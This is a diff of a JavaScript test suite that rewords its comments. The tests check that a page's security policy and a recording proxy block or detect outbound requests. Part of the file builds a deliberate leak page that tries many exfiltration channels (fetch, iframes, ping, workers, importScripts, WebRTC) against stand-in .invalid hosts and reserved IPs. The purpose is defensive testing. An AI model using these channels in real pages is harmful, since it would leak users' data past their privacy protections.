@@ -1,4 +1,4 @@
-// Without telling anybody: every request that the browser makes, written down, and whose it is.
+// Privacy: every request that the browser makes is recorded and attributed to the page or to the browser.
 import assert from "node:assert/strict";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { networkInterfaces, tmpdir } from "node:os";
@@ -9,7 +9,7 @@ import { BUNDLE, DIST, visit } from "./browser.mjs";
 import { noScenes, scenePath } from "./readers.mjs";
 import { watched } from "./witness.mjs";
 
-/** Each tries to leave by another way, in the page or in a worker; gives the directives of the policy that stop it. */
+/** Code that tries to send data in several ways, in the page or a worker; returns the CSP directives that block it. */
 const TRIES = `(async () => {
   const tried = {
     fetch: () => fetch("http://elsewhere.invalid/x", { mode: "no-cors" }),
@@ -50,7 +50,7 @@ test("behind a proxy that writes down every request, none of the page or its wor
     const asked = site.requests.join("\n");
     assert.ok(!/secret|deflate/.test(asked), "neither phrase nor file name is in an address");
 
-    // What would leave is stopped by the page's policy, in the page and in each of its workers.
+    // The page's policy blocks such requests, in the page and in each of its workers.
     assert.ok((await page.evaluate(TRIES)).includes("connect-src"), "the page's own policy forbids it");
     const workers = page.workers();
     assert.ok(workers.length >= 2, `model and scene worker: ${workers.map((worker) => worker.url())}`);
@@ -62,7 +62,7 @@ test("behind a proxy that writes down every request, none of the page or its wor
   assert.deepEqual(found.unexplained, [], `not by the browser itself; that is ${found.browser}`);
 });
 
-/** Ways out of a page without a policy, by the name of the host that each asks: what of them stands in its markup, */
+/** Ways to send data from a page without a policy, by the name of the host that each requests: in its markup, */
 const MARKUP = {
   stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
   prefetch: (url) => `<link rel="prefetch" href="${url}">`,
@@ -71,7 +71,7 @@ const MARKUP = {
   frame: (url) => `<iframe src="${url}"></iframe>`,
   sandbox: (url) => `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${url}')</script>"></iframe>`,
 };
-/** what its script does, */
+/** in its script, */
 const SCRIPT = {
   fetch: (url) => `fetch("${url}", { mode: "no-cors" })`,
   "fetch-tls": (url) => `fetch("${url.replace("http:", "https:")}", { mode: "no-cors" })`,
@@ -83,7 +83,7 @@ const SCRIPT = {
   ping: (url) => `Object.assign(document.createElement("a"), { href: "#", ping: "${url}" }).click()`,
   blob: (url) => `new Worker(URL.createObjectURL(new Blob(['fetch("${url}")'])))`,
 };
-/** and what is done in a worker, a shared worker and the service worker. */
+/** and in a worker, a shared worker and the service worker. */
 const WORKERS = {
   "worker.js": {
     "worker-import": (url) => `importScripts("${url}")`,
@@ -93,7 +93,7 @@ const WORKERS = {
   "shared.js": { "shared-fetch": (url) => `fetch("${url}")` },
   "sw.js": { "sw-fetch": (url) => `fetch("${url}")` },
 };
-/** Addresses for documentation, at which nobody is: what WebRTC asks by UDP and by TCP, past every policy. */
+/** Unused addresses (reserved for documentation) that WebRTC contacts by UDP and by TCP, regardless of any policy. */
 const STUN = "203.0.113.7:3478";
 const TURN = "203.0.113.8:3478";
 const START = `
@@ -109,10 +109,10 @@ const START = `
 
 const address = (name) => `http://${name}.invalid/x`;
 const lines = (ways, form) => Object.entries(ways).map(([name, way]) => form(way(address(name)))).join("\n");
-/** One way that throws, or that is refused, keeps no other from being tried. */
+/** Tries every way, even if one throws or is blocked. */
 const attempts = (ways) => lines(ways, (code) => `try { Promise.resolve(${code}).catch(() => {}); } catch {}`);
 
-/** Puts that page into `folder` and gives the names of the hosts that it asks. */
+/** Writes that page to `folder` and returns the names of the hosts that it requests. */
 function writeLeak(folder) {
   const html = `<!doctype html><html lang="en"><title>leak</title>${lines(MARKUP, String)}
 <script type="module">${attempts(SCRIPT)}${START}</script></html>`;
@@ -125,7 +125,7 @@ test("a page without a policy that sends something elsewhere is found out, by ea
   const folder = mkdtempSync(join(tmpdir(), "s4eca-leak-"));
   try {
     const names = writeLeak(folder);
-    // WebRTC asks over the interfaces that there are, other than loopback.
+    // WebRTC uses all interfaces except loopback.
     const isConnected = Object.values(networkInterfaces()).flat().some(({ internal }) => !internal);
     const found = await watched(folder, async ({ stage, site, proxy }) => {
       const context = await stage.browser.newContext();
